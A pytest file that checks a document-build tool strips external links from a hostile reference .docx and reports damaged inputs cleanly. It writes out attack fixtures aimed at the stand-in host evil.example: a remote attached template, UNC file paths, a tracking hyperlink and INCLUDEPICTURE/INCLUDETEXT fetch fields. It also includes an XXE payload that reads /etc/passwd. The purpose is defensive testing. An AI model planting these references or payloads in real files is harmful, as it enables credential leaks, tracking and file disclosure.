"""A hostile ``--reference-docx``: nothing external survives into the output, and a damaged one is a
located message (exit 1), never an internal error."""

from __future__ import annotations

import io
import os
import time
import zipfile
from pathlib import Path

import pytest

from fuzz_helpers import EXAMPLES, assert_contract, files_in, run_cli

EVIL = "evil.example"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELS_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'

#: Every way a reference can point outside itself that the attack run found or that Word writes.
FOOTER_LINKS = (
    f'<w:hyperlink r:id="rIdEvil2"><w:r><w:t>网站</w:t></w:r></w:hyperlink>'
    f'<w:r><w:pict><v:shape style="width:10pt;height:10pt"><v:imagedata r:id="rIdEvil3" o:href="http://{EVIL}/o.png"/></v:shape></w:pict></w:r>'
    f'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://{EVIL}/f.png&quot; \\d "><w:r><w:t>图</w:t></w:r></w:fldSimple>'
    f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r>'
    f'<w:r><w:instrText>TEXT "\\\\\\\\{EVIL}\\\\share\\\\a.docx" </w:instrText></w:r>'
    f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>文</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
)


def hostile_reference() -> bytes:
    """A real .docx whose settings attach a remote template (http and UNC) and whose footer holds an
    external hyperlink, a linked picture and fetching fields."""
    import docx

    document = docx.Document()
    footer = document.sections[0].footer
    footer.is_linked_to_previous = False
    footer.paragraphs[0].text = "页脚"
    buffer = io.BytesIO()
    document.save(buffer)
    out = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "word/settings.xml":
                data = data.replace(b'<w:zoom w:val="bestFit"/>', b'<w:zoom w:val="bestFit"/><w:attachedTemplate r:id="rIdEvil1"/>')
            elif info.filename == "word/footer1.xml":
                data = data.replace("<w:t>页脚</w:t></w:r>".encode(), f"<w:t>页脚</w:t></w:r>{FOOTER_LINKS}".encode())
            target.writestr(info, data)
        target.writestr("word/_rels/settings.xml.rels", _RELS_HEAD + (
            f'<Relationship Id="rIdEvil1" Type="{_REL}/attachedTemplate" Target="http://{EVIL}/normal.dotm" TargetMode="External"/>'
            "</Relationships>"))
        target.writestr("word/_rels/footer1.xml.rels", _RELS_HEAD + (
            f'<Relationship Id="rIdEvil2" Type="{_REL}/hyperlink" Target="https://{EVIL}/track" TargetMode="External"/>'
            f'<Relationship Id="rIdEvil3" Type="{_REL}/image" Target="file://///{EVIL}/share/pixel.png" TargetMode="External"/>'
            "</Relationships>"))
    return out.getvalue()


def _build(tmp_path: Path, reference: Path, *extra: str):
    source = tmp_path / "unit.yaml"
    source.write_bytes((EXAMPLES / "minimal.yaml").read_bytes())
    out = tmp_path / "out"
    return run_cli("build", source, "-o", out, "--reference-docx", reference, *extra), out


def test_every_external_link_is_removed_and_the_user_is_told(tmp_path):
    reference = tmp_path / "ref.docx"
    reference.write_bytes(hostile_reference())
    result, out = _build(tmp_path, reference)
    text = assert_contract(result)
    assert result.exit_code == 0, text
    assert "外部的链接" in text and "已从输出中删除" in text and "ref.docx" in text, text
    with zipfile.ZipFile(out / "unit.docx") as archive:
        for name in archive.namelist():
            content = archive.read(name)
            assert EVIL.encode() not in content, name
            assert b'TargetMode="External"' not in content, name
        assert b"attachedTemplate" not in archive.read("word/settings.xml")
        footers = [n for n in archive.namelist() if n.startswith("word/footer")]
        assert any("页脚".encode() in archive.read(n) for n in footers), "the reference's own footer text is kept"


def test_the_reference_itself_is_not_changed(tmp_path):
    reference = tmp_path / "ref.docx"
    data = hostile_reference()
    reference.write_bytes(data)
    _build(tmp_path, reference)
    assert reference.read_bytes() == data


def test_a_clean_reference_gives_no_warning(tmp_path):
    import docx

    reference = tmp_path / "ref.docx"
    docx.Document().save(str(reference))
    result, _ = _build(tmp_path, reference)
    text = assert_contract(result)
    assert result.exit_code == 0 and "外部" not in text, text


def test_batch_removes_them_too(tmp_path):
    reference = tmp_path / "ref.docx"
    reference.write_bytes(hostile_reference())
    inputs = tmp_path / "in"
    inputs.mkdir()
    for name in ("a", "b"):
        (inputs / f"{name}.yaml").write_bytes((EXAMPLES / "minimal.yaml").read_bytes())
    out = tmp_path / "out"
    result = run_cli("batch", inputs, "-o", out, "-j", "1", "--no-rollup", "--reference-docx", reference)
    assert result.exit_code == 0, result.output
    assert "已从输出中删除" in result.output
    for name in ("a", "b"):
        with zipfile.ZipFile(out / f"{name}.docx") as archive:
            assert all(EVIL.encode() not in archive.read(n) for n in archive.namelist())


def _with_part(name: str, content: bytes) -> bytes:
    import docx

    buffer = io.BytesIO()
    docx.Document().save(buffer)
    out = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, content if info.filename == name else source.read(info.filename))
    return out.getvalue()


@pytest.mark.parametrize("part, content", [
    ("word/styles.xml", b"<w:styles"),  # not well-formed
    ("word/styles.xml", b"\xff\xfe garbage"),
    ("word/styles.xml", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    ("word/styles.xml", b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:style w:type="bogus"><w:name/></w:style></w:styles>'),
    ("word/settings.xml", b"<<<"),
    ("word/_rels/document.xml.rels", b"not xml"),
    ("[Content_Types].xml", b"<Types/>"),
    ("word/document.xml", b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'),
])
def test_damaged_parts_are_a_located_message(part, content, tmp_path):
    reference = tmp_path / "ref.docx"
    reference.write_bytes(_with_part(part, content))
    result, out = _build(tmp_path, reference)
    text = assert_contract(result, where="ref.docx")
    assert "passwd" not in text and "root:" not in text
    if result.exit_code == 1:
        assert files_in(out) == []


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="POSIX only")
def test_fifo_reference_does_not_hang(tmp_path):
    fifo = tmp_path / "ref.docx"
    os.mkfifo(fifo)
    started = time.monotonic()
    result, out = _build(tmp_path, fifo)
    text = assert_contract(result, where="ref.docx")
    assert result.exit_code == 1 and "不是普通文件" in text, text
    assert time.monotonic() - started < 10 and files_in(out) == []
